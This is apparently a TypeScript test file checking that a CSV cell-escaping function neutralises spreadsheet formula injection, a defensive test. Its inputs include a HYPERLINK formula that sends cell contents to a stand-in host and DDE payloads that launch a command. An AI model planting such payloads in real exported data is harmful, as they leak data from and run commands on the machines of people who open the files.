import fc from 'fast-check'
import { expect, it } from 'vitest'
import { csvCell } from './csv-cell.js'
import { viewResultToCsv } from './view-history-formats.js'

/** The text that a reader of RFC 4180 finds in a cell. */
function opened(cell: string): string {
  return cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell
}

const isFormula = (text: string): boolean => /^[\s\p{C}]*[=@＝＋－＠]|^[\t\r\n]|^[\s\p{C}]*[+-](?!\d+$)/u.test(text)

it('no cell is a formula to a spreadsheet', () => {
  for (const text of [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    '@SUM(1+1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '-a',
    '+5',
    '-',
    '\t=1+1',
    '\r=1',
    '\n=1',
    ' =1+1',
    '\u0000=1',
    '\ufeff=1',
    '＝1+1',
    '-1.5',
    '=1',
  ]) {
    expect(isFormula(opened(csvCell(text))), text).toBe(false)
    expect(opened(csvCell(text))).toBe(`'${text}`)
    expect(viewResultToCsv(JSON.stringify(text))).toBe(csvCell(text))
  }
  const unit = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ',', ';', '1', 'a', '＝', '\u200b')
  fc.assert(
    fc.property(fc.string({ unit }), (text) => {
      const cell = csvCell(text)
      expect(isFormula(opened(cell))).toBe(false)
      expect([text, `'${text}`]).toContain(opened(cell))
      if (!cell.startsWith('"')) expect(cell).not.toMatch(/[",;\s]/)
    }),
  )
})

it('numbers, names, times and other texts stay as they are', () => {
  for (const text of ['', '12', '-5', '0x1::coin::transfer', 'true', '2025-01-01T00:25:00Z']) {
    expect(csvCell(text)).toBe(text)
  }
  for (const text of ['two words', 'a,b', 'say "x"', 'a=b', '{"a":-1}', "'quoted'"]) {
    expect(opened(csvCell(text))).toBe(text)
  }
  expect(viewResultToCsv('-5')).toBe('-5')
  expect(viewResultToCsv('[1,"=1"]')).toBe('"[1,""=1""]"')
  expect(viewResultToCsv(undefined)).toBe('')
})
